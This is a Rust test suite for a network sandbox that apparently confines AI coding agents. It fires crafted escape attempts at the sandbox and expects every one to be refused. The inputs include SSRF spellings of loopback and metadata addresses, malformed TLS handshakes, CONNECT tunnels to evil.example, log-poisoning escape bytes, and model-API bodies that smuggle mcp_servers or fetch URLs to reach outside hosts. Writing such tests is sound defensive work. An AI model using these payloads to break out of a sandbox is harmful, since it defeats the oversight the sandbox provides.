//! Crafted bytes from inside a real sandbox to its only way out. Names begin with the row of the attack list they belong to.

use clauderon_tests::{World, on_each_backend};
use serde_json::{Value, json};

on_each_backend!(
    b2_what_is_no_client_hello_for_the_right_name_is_closed,
    b3_a_policy_with_nothing_but_model_rows_allows_nothing_else,
    b4_no_spelling_of_a_host_widens_what_was_allowed,
    d1_control_and_bidi_characters_reach_neither_the_record_nor_a_terminal,
    e3_a_model_request_that_reaches_out_never_leaves,
    e3_nor_does_one_of_codex,
);

fn b2_what_is_no_client_hello_for_the_right_name_is_closed(backend: &str) {
    let world = World::new();
    let seen = world.python(
        backend,
        "a",
        &[],
        r#"
API = "api.anthropic.com:443"
# TLS 1.0 and nothing newer: no list of versions survives this.
old = bytearray(hello("api.anthropic.com"))
at = old.index(b"\x00\x2b\x00")
old[at + 1] = 0x99
old[9:11] = b"\x03\x01"
for label, raw in [
    ("http", b"GET /v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n"),
    ("ssh", b"SSH-2.0-OpenSSH_9.2\r\n"),
    ("zeros", bytes(100)),
    ("no name", hello(None)),
    ("another name", hello("evil.example")),
    ("h2 alone", hello("api.anthropic.com", ["h2"])),
    ("tls 1.0", bytes(old)),
]:
    print(label + ":", first_words(API, raw))
code, answer = ask(API, "CONNECT evil.example:443 HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n", "api.anthropic.com")
print("inner connect:", code)

# A ClientHello in single bytes is still read whole, and what follows it is still judged.
stream, code = connect("evil.example:443")
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tunnel = careless().wrap_bio(incoming, outgoing, server_hostname="evil.example")
def flush():
    for byte in outgoing.read():
        stream.send(bytes([byte]))
while True:
    try:
        tunnel.do_handshake()
        break
    except ssl.SSLWantReadError:
        flush()
        incoming.write(stream.recv(65536))
tunnel.write(b"GET /pieces HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
flush()
while True:
    try:
        print("pieces:", status(tunnel.read(65536)))
        break
    except ssl.SSLWantReadError:
        incoming.write(stream.recv(65536))
"#,
    );
    for line in [
        "http: closed",
        "ssh: closed",
        "zeros: closed",
        "no name: closed",
        "another name: closed",
        "h2 alone: closed",
        "tls 1.0: closed",
        "inner connect: 405",
        "pieces: 403",
    ] {
        assert!(seen.lines().any(|seen| seen == line), "{line}\n{seen}");
    }
    let refusals = world.refusals();
    let of = |host: &str, note: &str| {
        let fits = |row: &&Value| row["host"] == host && row["note"] == note;
        refusals.iter().filter(fits).count()
    };
    assert_eq!(
        of("api.anthropic.com", "malformed_request"),
        5,
        "{refusals:#?}"
    );
    assert_eq!(of("api.anthropic.com", "host_mismatch"), 2, "{refusals:#?}");
    assert_eq!(of("api.anthropic.com", "not_allowed"), 1, "{refusals:#?}");
    assert_eq!(of("evil.example", "not_allowed"), 1, "{refusals:#?}");
    let arrived = world.upstream.requests();
    assert!(
        arrived
            .iter()
            .all(|one| one.host != "evil.example" && one.path != "/v1/models")
    );
}

fn b3_a_policy_with_nothing_but_model_rows_allows_nothing_else(backend: &str) {
    let world = World::new();
    let npm = registry_host("npm");
    let seen = world.inside_with(
        backend,
        "a",
        &["--policy", "locked"],
        &format!(
            "for url in 'https://github.com/acme/shop.git/info/refs?service=git-upload-pack' https://{npm}/left-pad \
             https://echo.example/echo https://api.anthropic.com/v1/models; do \
             curl -sS -m 9 -o /dev/null -w '%{{http_code}}\\n' $url; done"
        ),
    );
    let answers: Vec<&str> = seen.lines().collect();
    assert_eq!(answers, ["403", "403", "403", "200"], "{seen}");
    for host in ["github.com", npm, "echo.example"] {
        world.assert_refused(host, "not_allowed");
    }
    assert!(
        world
            .upstream
            .requests()
            .iter()
            .all(|one| one.host == "api.anthropic.com")
    );
}

/// Returns the host of a row of the shipped table: no other file names one.
fn registry_host(registry: &str) -> &'static str {
    let table = include_str!("../../crates/policy/src/routes.toml");
    let row = table
        .split("[[route]]")
        .find(|row| row.contains(&format!("registry = \"{registry}\"\n")));
    let host = row.and_then(|row| row.split("hosts = [\"").nth(1)?.split('"').next());
    host.expect("the table has the registry")
}

fn b4_no_spelling_of_a_host_widens_what_was_allowed(backend: &str) {
    let world = World::new();
    world.print_with(backend, "first", &[], "hello").expect(0);
    world
        .run(&["policy", "allow", "first", "echo.example", "--always"])
        .expect(0);
    let seen = world.python(
        backend,
        "a",
        &[],
        r#"
def get(host, sni, path="/echo"):
    return ask(host + ":443", "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host), sni)[0]
# The allowed host, however it is spelt: this shows that the questions below are asked well.
for host in ["echo.example", "ECHO.Example", "echo.example."]:
    print("allowed", host, get(host, "echo.example"))
# Names that only look like it, and names that only look like no name.
for host in ["evilecho.example", "echo.example.evil.example", "xn--echo-example-9za.example", "EVIL.Example.", "echo-example", "echo.example.."]:
    print("name", host, get(host, host.lower().rstrip(".")))
# A row that refuses does so in every spelling.
for host in ["API.Anthropic.COM", "api.anthropic.com."]:
    print("account", host, get(host, "api.anthropic.com", "/v1/files"))
# Addresses in every spelling, loopback and metadata among them.
for host in ["127.0.0.1", "0x7f.1", "2130706433", "017700000001", "[::1]", "[::ffff:a9fe:a9fe]", "169.254.169.254", "0xa9fea9fe"]:
    print("address", host, get(host, None))
# What is no host at all.
for authority in ["user@echo.example:443", "user:pass@echo.example:443", "echo.example:443:443", "echo.example", "echo.example:0", "[fe80::1%25lo]:443",
                  "[fe80::1%lo]:443", "[echo.example]:443", "echo.example%2eevil.example:443", b"echo.example\x00.evil.example:443", b"\xef\xbc\xa5cho.example\xe3\x80\x82:443"]:
    print("nothing", authority, connect(authority)[1])
"#,
    );
    for line in seen.lines() {
        let fine = match line.split(' ').next() {
            Some("allowed") => line.ends_with(" 200"),
            Some("nothing") => line.ends_with(" 400") || line.ends_with(" 403"),
            // By a rule, not for want of a way there: that would be 502.
            _ => line.ends_with(" 403"),
        };
        assert!(fine, "{line}\n{seen}");
    }
    assert_eq!(seen.lines().count(), 30, "{seen}");
    assert_eq!(world.refusals().len(), 27, "{:#?}", world.refusals());
    for host in [
        "evilecho.example",
        "evil.example",
        "127.0.0.1",
        "169.254.169.254",
    ] {
        world.assert_refused(host, "not_allowed");
    }
    world.assert_refused("api.anthropic.com", "forbidden");
    world.assert_refused("user@echo.example:443", "malformed_request");
    let arrived = world.upstream.requests();
    let arrived = arrived.iter().filter(|one| one.path == "/echo");
    assert_eq!(arrived.filter(|one| one.host == "echo.example").count(), 3);

    // A session that may ask every public host whole may ask no address, and no name of one's own network.
    let seen = world.python(
        backend,
        "open",
        &["--policy", "open"],
        r#"
for host in ["echo.example", "127.0.0.1", "[::1]", "169.254.169.254", "203.0.113.9", "echo-example"]:
    name = host if "e" in host else None
    code, answer = ask(host + ":443", "GET /echo HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host, name)
    print(host, code, "not_allowed" if b'"not_allowed"' in answer else "-")
"#,
    );
    let mut lines = seen.lines();
    assert_eq!(lines.next(), Some("echo.example 200 -"), "{seen}");
    let refused = |line: &str| line.ends_with(" 403 not_allowed");
    assert!(lines.all(refused), "an address is let through: {seen}");
    assert_eq!(seen.lines().count(), 6, "{seen}");
}

fn d1_control_and_bidi_characters_reach_neither_the_record_nor_a_terminal(backend: &str) {
    let world = World::new();
    let seen = world.python(
        backend,
        "a",
        &[],
        r#"
bidi = "\u202e".encode()
for dirt in [b"\r", b"\n", b"\x1b[2J\x1b]0;owned\x07", bidi, b"\x00", b"\x9b31m", b"%0d%0a%1b[2J", b'"}\\u001b']:
    target = b"GET /before" + dirt + b"after HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    print("path", ask("evil.example:443", target, "evil.example")[0])
    print("host", connect(b"evil" + dirt + b".example:443")[1])
    stream = gate()
    stream.sendall(b"GET http://evil.example/plain" + dirt + b" HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    print("plain", status(read(stream, b"\r\n\r\n")))
for name in [b"e\r\nX: 1\x1b[2Jil.e", b"evil.e" + bidi + bidi + b"xam"]:
    raw = hello("aaaaaaaaaaaaaaa.example").replace(b"aaaaaaaaaaaaaaa", name[:15].ljust(15, b"x"))
    print("sni", first_words("evil.example:443", raw))
"#,
    );
    assert!(
        seen.lines().all(|line| line.ends_with(" 400")
            || line.ends_with(" 403")
            || line.ends_with("closed")),
        "{seen}"
    );
    assert_eq!(seen.lines().count(), 26, "{seen}");
    assert!(world.refusals().len() >= 26, "{:#?}", world.refusals());

    let log = std::fs::read(world.home.join("audit.jsonl")).expect("there is a log");
    let odd = log
        .iter()
        .position(|byte| *byte != b'\n' && !(0x20..=0x7e).contains(byte));
    assert_eq!(odd, None, "a byte that steers a terminal is in the log");
    for (number, line) in String::from_utf8_lossy(&log).lines().enumerate() {
        let record: Value = serde_json::from_str(line).expect("one record a line");
        assert_eq!(record["seq"], number + 1, "{line}");
        assert_harmless(&record, line);
    }
    world.run(&["audit", "verify"]).expect(0);
    for args in [
        &["audit", "tail", "-n", "100"][..],
        &["policy", "recent", "a"],
        &["audit", "tail", "-n", "100", "--json"],
    ] {
        let printed = world.run(args).expect(0).stdout;
        assert!(printed.contains("/before"), "{printed}");
        assert!(
            printed.lines().all(|line| !line.chars().any(steers)),
            "{printed:?}"
        );
    }
}

/// Fails where a text of the record, once it is read, holds what its JSON only hid.
#[track_caller]
fn assert_harmless(value: &Value, line: &str) {
    match value {
        Value::String(text) => assert!(!text.chars().any(steers), "{line}"),
        Value::Object(fields) => fields
            .values()
            .for_each(|value| assert_harmless(value, line)),
        _ => {}
    }
}

fn steers(letter: char) -> bool {
    letter.is_control()
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// One request to a model's address.
struct Post {
    path: &'static str,
    body: String,
    more: &'static str,
    /// Bytes a chunk; 0 sends it whole.
    chunk: usize,
}

impl Post {
    fn to(path: &'static str, body: impl std::fmt::Display) -> Self {
        Self {
            path,
            body: body.to_string(),
            more: "",
            chunk: 0,
        }
    }
}

/// Posts from inside and returns each answer's status with its refusal's code.
#[track_caller]
fn post(world: &World, backend: &str, agent: &str, host: &str, posts: &[Post]) -> Vec<String> {
    let mut script = POST.replace("HOST", &format!("{host:?}"));
    for post in posts {
        let hex: String = post
            .body
            .bytes()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        let line = format!(
            "post({:?}, {hex:?}, {:?}, {})\n",
            post.path, post.more, post.chunk
        );
        script.push_str(&line);
    }
    let seen = world.python(backend, "a", &["--agent", agent], &script);
    seen.lines().map(str::to_owned).collect()
}

const POST: &str = r#"
def post(path, body, more, chunk):
    body = bytes.fromhex(body)
    head = "POST %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Type: application/json\r\n%s" % (path, HOST, more)
    if chunk:
        pieces = [body[at:at + chunk] for at in range(0, len(body), chunk)]
        framed = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"
        head += "Transfer-Encoding: chunked\r\n"
    else:
        framed = body
        head += "Content-Length: %d\r\n" % len(body)
    code, answer = ask(HOST + ":443", head.encode() + b"\r\n" + framed, HOST)
    said = answer.split(b'"code":"', 1)[1:]
    print(code, said[0].split(b'"')[0].decode() if said else "-")
"#;

fn e3_a_model_request_that_reaches_out_never_leaves(backend: &str) {
    let world = World::new();
    let with = |key: &str, value: Value| {
        let mut body = json!({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "MARK"}]});
        body[key] = value;
        body
    };
    let block = |block: Value| {
        with(
            "messages",
            json!([{"role": "user", "content": [{"type": "text", "text": "MARK"}, block]}]),
        )
    };
    let source = |source: Value| block(json!({"type": "document", "source": source}));
    let evil = "https://evil.example/MARK";
    let servers = with(
        "mcp_servers",
        json!([{"type": "url", "url": evil, "name": "x"}]),
    )
    .to_string();
    let url = source(json!({"type": "url", "url": evil})).to_string();
    let mut posts = vec![
        servers.clone(),
        with("tools", json!([{"type": "web_fetch_20250910", "name": "web_fetch"}])).to_string(),
        with("tools", json!([{"type": "code_execution_20250825", "name": "code_execution"}])).to_string(),
        with("tools", json!([{"type": "a_tool_of_tomorrow", "name": "x"}])).to_string(),
        with("container", json!("container_MARK")).to_string(),
        with("fetch", json!({"url": evil})).to_string(),
        url.clone(),
        source(json!({"type": "file", "file_id": "file_MARK"})).to_string(),
        block(json!({"type": "image", "source": {"type": "url", "url": evil}})).to_string(),
        block(json!({"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": evil}}]})).to_string(),
        // Two readers may each take another of two equal keys, however they are spelt.
        format!("{{\"mcp_servers\":[],{}", &servers[1..]),
        format!("{},\"mcp_servers\":[]}}", &servers[..servers.len() - 1]),
        format!("{},\"mcp\\u005fservers\":[]}}", &servers[..servers.len() - 1]),
        url.replace("\"type\":\"url\"", "\"type\":\"url\",\"type\":\"base64\""),
        servers.replace("mcp_servers", "mcp\\u005fservers"),
        servers.replace("mcp_servers", "MCP_Servers"),
        format!("{servers}{servers}"),
        format!("\u{feff}{servers}"),
    ]
    .into_iter()
    .map(|body| Post::to("/v1/messages", body))
    .collect::<Vec<_>>();
    posts.extend([1, 7].map(|chunk| Post {
        chunk,
        ..Post::to("/v1/messages", &servers)
    }));
    posts.push(Post::to("/v1/messages/count_tokens", &servers));
    let refused = posts.len();
    let plain = with("max_tokens", json!(1));
    posts.extend([
        Post {
            more: "Content-Encoding: gzip\r\n",
            ..Post::to("/v1/messages", &servers)
        },
        Post::to("/v1/messages/batches", &plain),
        Post::to("/v1/messages", &plain),
    ]);
    let answers = post(&world, backend, "claude", "api.anthropic.com", &posts);
    assert_eq!(answers[..refused], vec!["403 model_body_refused"; refused]);
    // The last one shows that the others were asked well.
    assert_eq!(
        answers[refused..],
        ["415 model_body_refused", "403 forbidden", "200 -"]
    );
    only_the_plain_question_arrived(&world, refused + 1);
}

fn e3_nor_does_one_of_codex(backend: &str) {
    let world = World::new();
    let with = |key: &str, value: Value| {
        let mut body = json!({"model": "m", "input": [{"type": "message", "role": "user", "content": [{"type": "input_text", "text": "MARK"}]}]});
        body[key] = value;
        body
    };
    let said = |content: Value| {
        with(
            "input",
            json!([{"type": "message", "role": "user", "content": [content]}]),
        )
    };
    let evil = "https://evil.example/MARK";
    let servers = with(
        "tools",
        json!([{"type": "mcp", "server_label": "x", "server_url": evil}]),
    )
    .to_string();
    let mut posts = vec![
        servers.clone(),
        with(
            "tools",
            json!([{"type": "code_interpreter", "container": {"type": "auto"}}]),
        )
        .to_string(),
        with("tools", json!([{"type": "a_tool_of_tomorrow"}])).to_string(),
        said(json!({"type": "input_image", "image_url": evil})).to_string(),
        said(json!({"type": "input_file", "file_url": evil})).to_string(),
        with("prompt", json!({"id": "pmpt_MARK"})).to_string(),
        format!("{{\"tools\":[],{}", &servers[1..]),
        format!("{},\"tools\":[]}}", &servers[..servers.len() - 1]),
    ]
    .into_iter()
    .map(|body| Post::to("/v1/responses", body))
    .collect::<Vec<_>>();
    posts.push(Post {
        chunk: 3,
        ..Post::to("/v1/responses", &servers)
    });
    let refused = posts.len();
    posts.push(Post::to("/v1/responses", with("model", json!("m"))));
    let answers = post(&world, backend, "codex", "api.openai.com", &posts);
    assert_eq!(answers[..refused], vec!["403 model_body_refused"; refused]);
    assert_eq!(answers[refused..], ["200 -"]);
    only_the_plain_question_arrived(&world, refused);
}

fn only_the_plain_question_arrived(world: &World, refused: usize) {
    let marked = |one: &&clauderon_rehearsal::Recorded| {
        let body = String::from_utf8_lossy(&one.body).into_owned();
        body.contains("MARK") || body.contains("evil.example")
    };
    let arrived = world.upstream.requests();
    let arrived: Vec<_> = arrived.iter().filter(marked).collect();
    assert_eq!(arrived.len(), 1, "{arrived:#?}");
    let recorded = world.refusals();
    let recorded = recorded
        .iter()
        .filter(|row| row["note"] == "model_body_refused");
    assert_eq!(recorded.count(), refused);
}
